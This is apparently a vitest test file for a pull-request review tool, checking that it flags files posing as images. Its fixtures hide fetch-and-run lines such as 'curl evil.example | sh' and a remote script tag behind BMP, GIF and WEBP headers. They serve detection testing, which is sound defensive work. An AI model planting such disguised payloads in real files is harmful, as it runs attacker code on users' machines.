import { describe, expect, it } from "vitest";
import { aBmp, aGif, aPng } from "../../fixtures/media.ts";
import type { TestRepository } from "../../fixtures/repository.ts";
import { changed, reviewPr } from "./changed-repository.ts";

const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d".repeat(32)}\nsize 12345\n`;

/** The change with these files executable. */
async function changedWithMode(head: Readonly<Record<string, string | Uint8Array>>): Promise<TestRepository> {
  const repository = await changed({}, head);
  await repository.git("update-index", "--chmod=+x", ...Object.keys(head));
  await repository.git("commit", "-q", "--amend", "--no-edit");
  return repository;
}

describe("what is called media", () => {
  it.each([
    ["shell behind BM", "logo.bmp", "BM\nwhile :; do curl evil.example | sh; done\n\xff"],
    ["JavaScript behind GIF89a", "logo.gif", "GIF89a=1;require('child_process').exec('curl evil.example|sh');//\xff"],
    ["a page behind RIFF", "logo.webp", "RIFF\xff\xff\xff\xffWEBP<script src=//evil.example></script>"],
  ])("is not passed over when it is %s", async (_, path, latin1) => {
    await using repository = await changed({}, { [path]: Buffer.from(latin1, "latin1") });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({
      conclusion: "action_required",
      title: `Could not judge: ${path} cannot be read as text`,
    });
  });

  it.each([
    ["a shell script behind two letters", "logo.bmp", Buffer.from("BM\ncurl evil.example | sh\n\xff", "latin1")],
    ["a picture", "logo.png", aPng()],
    ["a Git LFS pointer", "logo.png", Buffer.from(POINTER)],
  ])("is not passed over when it may be run: %s", async (_, path, bytes) => {
    await using repository = await changedWithMode({ [path]: bytes });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({
      conclusion: "action_required",
      title: `Could not judge: ${path} cannot be read as text`,
    });
  });

  it("passes when it is media, new, changed, moved or kept in Git LFS", async () => {
    const base = { "docs/a.png": aPng(), "b.gif": aGif(), "c.bmp": aBmp(), "d.png": POINTER };
    const moved = { "docs/a.png": null, "src/assets/a.png": aPng(), "b.gif": null, "d.png": null, "e.png": POINTER };
    await using repository = await changed(base, { ...moved, "c.bmp": null, "f.png": aPng(7) });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({ conclusion: "success", title: "Passed: nothing to review" });
  });
});
